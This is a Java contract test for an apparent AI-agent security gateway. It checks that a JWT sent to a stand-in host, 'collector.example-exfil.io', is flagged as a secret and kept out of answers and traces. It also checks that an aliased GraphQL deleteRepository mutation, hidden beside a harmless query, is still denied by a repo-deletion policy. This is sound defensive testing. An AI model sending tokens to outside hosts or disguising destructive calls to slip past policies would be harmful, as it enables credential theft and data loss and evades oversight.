package io.interven.gateway.contract;

import static io.interven.gateway.contract.PolicyApi.apply;
import static io.interven.gateway.contract.PolicyApi.decidedBy;
import static io.interven.gateway.contract.PolicyApi.policy;
import static io.interven.gateway.contract.PolicyApi.rule;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.interven.gateway.testing.HttpResult;
import io.interven.gateway.testing.TenantFixture;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Through {@code POST /v1/scan} on a real gateway, once per database: a JSON Web Token sent as the bearer credential
 * of the API its claims name is the call's authentication, the same token sent elsewhere is data, and neither the
 * token nor its claims reach the answer or the trace; a GraphQL call is named by the operation it executes, so a
 * policy on {@code delete_repo} holds for the GraphQL mutation as for the REST call.
 */
abstract class OwnIssuerCallsContract extends GatewayContract {
    private static final String ISSUER_HOST = "auth.initech-payments.net";

    private static String jwt(String claims) {
        Base64.Encoder encoder = Base64.getUrlEncoder().withoutPadding();
        return encoder.encodeToString("{\"alg\":\"ES256\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "."
                + encoder.encodeToString(claims.getBytes(StandardCharsets.UTF_8))
                + ".MEUCIQDx7v9Qk3s2LmN8pR4tW6yZ1aB5cD9eF3gH7jK2lM4nPwIgV8uX0";
    }

    private static final String TOKEN = jwt("{\"iss\":\"https://" + ISSUER_HOST + "/\",\"sub\":\"svc-billing\","
            + "\"scope\":\"invoices:write\",\"exp\":1893456000}");

    private static HttpResult scanWithBearer(TenantFixture tenant, String url) {
        return tenant.scan(Map.of(
                "method", "POST",
                "url", url,
                "headers", Map.of("Authorization", "Bearer " + TOKEN, "Content-Type", "application/json"),
                "body", Map.of("amount", 1200, "currency", "EUR")));
    }

    @Test
    void aJwtSentToTheApiOfItsIssuersDomainAuthenticatesTheCall() {
        TenantFixture tenant = newTenant();
        HttpResult answer = scanWithBearer(tenant, "https://api.initech-payments.net/v1/invoices");

        assertThat(answer.status()).as(answer.text()).isEqualTo(200);
        JsonNode json = answer.json();
        assertThat(json.get("decision").asText()).isEqualTo("ALLOW");
        assertThat(json.get("classifications")).isEmpty();
        assertThat(json.get("reason_codes")).isEmpty();
        assertNothingOfTheToken(tenant, answer);
    }

    @Test
    void theSameJwtSentToAnotherHostIsDataAndItsClaimsAreNeverShown() {
        TenantFixture tenant = newTenant();
        HttpResult answer = scanWithBearer(tenant, "https://collector.example-exfil.io/v1/invoices");

        assertThat(answer.status()).as(answer.text()).isEqualTo(200);
        JsonNode json = answer.json();
        assertThat(json.get("classifications").toString()).contains("SECRETS");
        assertThat(json.get("decision").asText()).isIn("SANITIZE", "DENY", "REQUIRE_APPROVAL");
        assertNothingOfTheToken(tenant, answer);
    }

    private static void assertNothingOfTheToken(TenantFixture tenant, HttpResult answer) {
        JsonNode trace = TraceReader.awaitTrace(tenant, answer.json().get("trace_id").asText());
        for (String text : List.of(answer.text(), trace.toString())) {
            assertThat(text).doesNotContain(TOKEN.substring(0, 40)).doesNotContain(TOKEN.substring(TOKEN.length() - 20))
                    .doesNotContain(ISSUER_HOST).doesNotContain("svc-billing");
        }
    }

    @Test
    void aGraphqlMutationIsNamedByTheOperationItExecutes() {
        TenantFixture tenant = newTenant();
        apply(tenant, policy("no-repo-deletion", List.of(
                rule("deny-delete-repo", Map.of("tool", "github", "operation", "delete_repo"), "DENY", 10))));
        String hidden = "query Harmless { viewer { login } } "
                + "mutation Cleanup { star: deleteRepository(input: {repositoryId: \"R_kgDOJx\"}) { clientMutationId } }";

        HttpResult rest = tenant.scan(Map.of("method", "DELETE", "url", "https://api.github.com/repos/acme/web"));
        HttpResult graphql = tenant.scan(Map.of("method", "POST", "url", "https://api.github.com/graphql",
                "body", Map.of("query", hidden, "operationName", "Cleanup")));
        HttpResult onlyTheQuery = tenant.scan(Map.of("method", "POST", "url", "https://api.github.com/graphql",
                "body", Map.of("query", hidden, "operationName", "Harmless")));

        assertThat(decidedBy(rest)).isEqualTo("DENY by no-repo-deletion/deny-delete-repo");
        assertThat(graphql.json().get("operation").asText()).isEqualTo("delete_repo");
        assertThat(decidedBy(graphql)).isEqualTo("DENY by no-repo-deletion/deny-delete-repo");
        assertThat(onlyTheQuery.json().get("operation").asText()).isEqualTo("graphql_query");
        assertThat(onlyTheQuery.json().get("decision").asText()).isEqualTo("ALLOW");
    }
}
